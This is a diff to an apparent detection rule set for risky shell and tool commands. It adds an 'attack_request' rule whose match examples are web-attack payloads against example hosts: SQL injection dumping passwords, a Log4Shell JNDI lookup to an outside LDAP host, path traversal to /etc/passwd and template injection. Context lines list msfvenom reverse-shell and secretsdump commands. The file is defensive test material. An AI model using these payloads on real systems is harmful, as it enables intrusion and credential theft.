@@ -31,9 +31,26 @@ RULES = family(
             "$ msfvenom -p linux/x64/shell_reverse_tcp -f elf",
             "$ evil-winrm -i 10.0.0.5 -u x",
             "$ impacket-secretsdump x@10.0.0.5",
-            "$ curl -H 'User-Agent: ${jndi:ldap://10.0.0.9/a}' https://app.example.com/login",
         ],
         no_match=["$ sqlmap -u http://localhost:5000/?id=1", "$ sqlmap --version", "$ sqlite3 app.db .tables"],
+    ),
+    Rule(
+        name="attack_request",
+        level=Level.HIGH,
+        when=effect("net.fetch net.send", "attack", named=is_another_machine),
+        reason="The text of the request attacks the application that receives it",
+        match=[
+            "$ curl 'https://shop.example.com/item?id=1%27%20UNION%20SELECT%20name,password%20FROM%20users--'",
+            "$ curl -H 'User-Agent: ${jndi:ldap://198.51.100.9/a}' https://app.example.com/login",
+            "$ curl --path-as-is https://files.example.com/../../../etc/passwd",
+            ">>> requests.get('https://shop.example.com/item', params={'id': \"1' OR '1'='1\"})",
+            'tool http_request {"url": "https://app.example.com/hello?name={{7*7}}"}',
+        ],
+        no_match=[
+            "$ curl 'http://localhost:3000/item?id=1%27%20UNION%20SELECT%201--'",
+            "$ curl 'https://shop.example.com/people?name=O%27Brien'",
+            "$ curl 'https://data.example.com/query?query=SELECT%20a%20FROM%20t%20UNION%20SELECT%20b%20FROM%20u'",
+        ],
     ),
     Rule(
         name="password_guessing",
